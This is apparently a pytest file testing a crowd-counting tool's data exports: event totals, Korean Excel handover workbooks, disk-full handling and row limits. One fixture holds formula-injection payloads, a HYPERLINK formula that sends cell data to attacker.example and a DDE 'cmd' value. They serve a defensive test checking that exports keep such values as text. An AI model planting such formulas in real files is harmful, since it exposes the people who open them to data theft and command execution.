"""Exports of a real run, read back with pandas, openpyxl and pyarrow: totals match the events."""

from __future__ import annotations

import json
from datetime import timedelta
from pathlib import Path

import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest

from conftest import fill
from crowdcount.datatypes import CounterInfo, CountEvent, SourceRecord
from crowdcount.errors import CrowdcountError
from crowdcount.formats import Format
from crowdcount.handover.export import EXCEL_ROWS, SHARE_FORMAT, write_table
from crowdcount.store.events import EventStore
from helpers import START, crowdcount

FORMATS = ["csv", "xlsx", "parquet", "json"]


def export(db: Path, out: Path, *args: str) -> None:
    result = crowdcount("export", "--db", db, "--out", out, *args)
    assert result.returncode == 0, result.stderr


def read(path: Path) -> pd.DataFrame:
    """An export as a table; an English workbook's camera sheets together, without the display names."""
    if path.suffix == ".csv":
        return pd.read_csv(path)
    if path.suffix == ".json":
        return pd.DataFrame(json.loads(path.read_text(encoding="utf-8")))
    if path.suffix == ".parquet":
        return pq.read_table(path).to_pandas()
    frames = []
    for sheet in openpyxl.load_workbook(path).worksheets:
        if sheet.title not in ("cover", "summary", "days"):
            header, *rows = sheet.values
            frames.append(pd.DataFrame(rows, columns=header))
    return pd.concat(frames, ignore_index=True).drop(
        columns=["camera_name", "counter_name", "group_name"], errors="ignore"
    )


@pytest.fixture(scope="module")
def expected(processed_db) -> dict[tuple[str, str], int]:
    counts: dict[tuple[str, str], int] = {}
    for event in EventStore(processed_db, create=False).events():
        key = (event.counter, event.kind if event.kind != "cross" else event.direction)
        counts[key] = counts.get(key, 0) + 1
    return counts


@pytest.mark.parametrize("fmt", FORMATS)
def test_interval_exports_add_up_to_the_events(tmp_path, processed_db, expected, fmt):
    out = tmp_path / f"intervals.{fmt}"
    export(processed_db, out, "--what", "intervals", "--interval", "1min", "--format", fmt, "--lang", "en")
    table = read(out)
    assert list(table.columns)[:8] == [
        "camera",
        "counter",
        "type",
        "group",
        "interval_start",
        "interval_end",
        "status",
        "coverage",
    ]
    assert set(table["status"]) == {"complete", "partial"}
    lamppost, junction = table[table["counter"] == "lamppost"], table[table["counter"] == "junction"]
    assert lamppost["in"].sum() == expected[("lamppost", "in")]
    assert lamppost["out"].sum() == expected[("lamppost", "out")]
    assert junction["entries"].sum() == expected[("junction", "enter")]
    assert junction["exits"].sum() == expected[("junction", "exit")]
    if fmt in ("csv", "json"):
        assert table["interval_start"].iloc[0] == "2009-03-01T10:00:00+09:00"
    if fmt == "parquet":
        assert str(table["interval_start"].dt.tz) == "Asia/Seoul"


@pytest.mark.parametrize("fmt", FORMATS)
def test_event_exports_have_one_row_per_event(tmp_path, processed_db, expected, fmt):
    out = tmp_path / f"events.{fmt}"
    export(processed_db, out, "--what", "events", "--format", fmt, "--lang", "en")
    table = read(out)
    assert list(table.columns) == [
        "camera",
        "counter",
        "kind",
        "direction",
        "track_id",
        "timestamp",
        "source",
        "frame",
    ]
    assert len(table) == sum(expected.values())
    assert set(table["source"]) == {"vtest.avi"}  # the file's name, not the server's path
    if fmt == "csv":
        assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM: Excel opens Korean right


def test_excel_is_a_korean_handover_workbook(tmp_path, processed_db, expected):
    out = tmp_path / "intervals.xlsx"
    export(processed_db, out, "--what", "intervals", "--interval", "15min", "--format", "xlsx")
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["표지", "요약", "일별 합계", "pets-view1"]
    cover = dict(book["표지"].values)
    assert cover["기간"] == "2009-03-01 - 2009-03-01" and "검수 전" in cover["정확도"]
    accuracy = [value for key, value in book["표지"].values if key == "정확도"]
    assert accuracy[0].startswith("기본 검출기의 공개 영상 측정 정확도 (PETS 2009")  # measured numbers first
    assert len(cover["설정 해시"]) == 16  # the config's hash, as the run manifest has it
    assert "person-detection-0303" in EventStore(processed_db, create=False).sources()[0].model
    assert cover["검출 모델"].startswith(
        "Intel person-detection-0303 (MobileNetV2 ATSS, INT8); 라이선스 Apache-2.0"
    )
    assert ".xml" not in cover["검출 모델"] and "@" not in cover["검출 모델"]  # plain words, not file names
    rows = list(book["요약"].values)
    header, lamppost = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert "영상 없는 구간" in header and lamppost["측정 지점"] == "lamppost" and lamppost["유형"] == "통과선"
    assert lamppost["진입"] == expected[("lamppost", "in")]
    days = list(book["일별 합계"].values)
    header = (
        "카메라",
        "카메라 이름",
        "측정 지점",
        "측정 지점 이름",
        "항목",
        "2009-03-01",
        "합계",
        "개장 시간 중 촬영 비율",
    )
    assert days[0][:8] == header and days[0][8:] == (
        "개장 시간 전체 추정",
        "추정 하한(95%)",
        "추정 상한(95%)",
    )
    lamppost_in = next(row for row in days if row[2:5] == ("lamppost", "lamppost", "진입"))
    counted = f"{expected[('lamppost', 'in')]}*"  # a day filmed for two minutes: marked, a lower bound
    assert lamppost_in[5:7] == (counted, counted) and 0 < lamppost_in[7] < 0.01
    share = next(row for row in book["일별 합계"].iter_rows(min_row=2) if row[2].value == "lamppost")[7]
    assert share.number_format == SHARE_FORMAT
    sheet = book["pets-view1"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == sheet.dimensions
    columns = {cell.value: cell.column_letter for cell in sheet[1]}
    start = sheet[f"{columns['구간 시작']}2"]
    assert start.is_date and start.number_format == "yyyy-mm-dd hh:mm"
    assert sheet[f"{columns['운영 시간 중 촬영 비율']}2"].number_format == SHARE_FORMAT
    setup = sheet.page_setup  # printed: A4 landscape, the width of one page, the header on every page
    assert (setup.orientation, setup.paperSize, setup.fitToWidth, setup.fitToHeight) == ("landscape", 9, 1, 0)
    assert sheet.print_title_rows == "$1:$1" and sheet.oddFooter.center.text == "&P / &N"
    assert sheet["A1"].font.bold
    assert {sheet[f"{columns['상태']}{row}"].value for row in range(2, sheet.max_row + 1)} == {"일부"}
    assert sheet.column_dimensions[columns["측정 지점 이름"]].width >= len("측정 지점 이름") * 2


def test_excel_in_english_keeps_the_documented_column_names(tmp_path, processed_db):
    out = tmp_path / "intervals.xlsx"
    export(processed_db, out, "--what", "intervals", "--format", "xlsx", "--lang", "en")
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["cover", "summary", "days", "pets-view1"]
    assert "unaudited" in dict(book["cover"].values)["Accuracy"]
    assert [c.value for c in book["pets-view1"][1]][:4] == [
        "camera",
        "camera_name",
        "counter",
        "counter_name",
    ]


def test_group_totals_sum_the_lines_of_the_group(tmp_path, processed_db, expected):
    out = tmp_path / "groups.csv"
    export(processed_db, out, "--what", "groups", "--interval", "day", "--format", "csv")
    table = pd.read_csv(out)
    assert table["group"].tolist() == ["walkways"]
    assert table["in"].sum() == expected[("lamppost", "in")] + expected[("west", "in")]


HOSTILE_GROUP = '=HYPERLINK("http://attacker.example/?"&A1,"totals")'
HOSTILE_FILE = "=cmd|' -C calc'!A0.avi"  # a file name cannot hold a /


@pytest.fixture
def hostile_db(tmp_path: Path) -> Path:
    """A real store whose group and recording names are spreadsheet formulas."""
    db = tmp_path / "hostile.db"
    store = EventStore(db)
    end = START + timedelta(minutes=2)
    store.replace_source(
        SourceRecord("gate", HOSTILE_FILE, "done", START, end, 10.0, 1200, 1, "m"),
        [CountEvent("gate", "door", "cross", "in", 1, START + timedelta(seconds=30), HOSTILE_FILE, 300)],
    )
    store.set_counters("gate", [CounterInfo("gate", "door", "line", HOSTILE_GROUP)])
    return db


@pytest.mark.parametrize("what", ["events", "groups"])
def test_text_a_spreadsheet_would_run_is_exported_as_text(tmp_path, hostile_db, what):
    csv = tmp_path / f"{what}.csv"
    export(hostile_db, csv, "--what", what, "--lang", "en")
    text = csv.read_text(encoding="utf-8-sig")
    hostile = HOSTILE_FILE if what == "events" else HOSTILE_GROUP
    assert "'" + hostile.split('"')[0] in text  # OWASP: a leading apostrophe keeps it text
    assert not any(cell.startswith("=") for line in text.splitlines() for cell in line.split(","))
    book_path = tmp_path / f"{what}.xlsx"
    export(hostile_db, book_path, "--what", what, "--format", "xlsx")
    cells = [cell for sheet in openpyxl.load_workbook(book_path) for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # values, never formulas
    assert hostile in {cell.value for cell in cells}  # the name itself, as text


def test_a_table_too_long_for_excel_is_refused_before_anything_is_written(tmp_path):
    out = tmp_path / "year.xlsx"
    with pytest.raises(CrowdcountError, match="more than Excel's 1,048,575; export CSV or Parquet"):
        write_table(pd.DataFrame({"camera": ["gate"] * EXCEL_ROWS, "in": 1}), out, Format.xlsx)
    assert list(tmp_path.iterdir()) == []


def test_an_export_that_fills_the_disk_keeps_the_previous_file_whole(processed_db, small_disk):
    out = small_disk / "counts.csv"
    export(processed_db, out, "--what", "intervals", "--interval", "day")
    before = out.read_bytes()
    fill(small_disk, leave=0)
    result = crowdcount("export", "--db", processed_db, "--out", out, "--what", "events")
    assert result.returncode == 2
    assert result.stderr.strip().startswith(f"crowdcount: error: cannot write {out}: No space left on device")
    assert len(result.stderr.strip().splitlines()) == 1
    assert out.read_bytes() == before  # the previous export, whole
    assert sorted(p.name for p in small_disk.iterdir()) == ["counts.csv", "filler"]  # nothing partial


def test_a_csv_for_people_has_korean_headers_and_separate_date_and_hour_columns(tmp_path, processed_db):
    out = tmp_path / "hourly.csv"
    export(processed_db, out, "--what", "intervals", "--interval", "60min", "--korean-headers", "--date-hour")
    table = pd.read_csv(out, encoding="utf-8-sig")
    columns = list(table.columns)
    assert columns[:4] == ["카메라", "카메라 이름", "측정 지점", "측정 지점 이름"]
    start = columns.index("구간 시작")
    assert columns[start : start + 3] == ["구간 시작", "날짜", "시"]
    first = table.iloc[0]
    assert (first["날짜"], first["시"]) == ("2009-03-01", 10) and first["구간 시작"].startswith(
        "2009-03-01T10:00"
    )
    assert set(table["상태"]) <= {"완전", "일부", "영상 없음", "운영 시간 외"}
    assert set(table["유형"]) <= {"통과선", "구역"}
    plain = tmp_path / "plain.csv"
    export(processed_db, plain, "--what", "intervals", "--interval", "60min")
    assert "camera" in pd.read_csv(plain).columns  # without the option: the documented column names
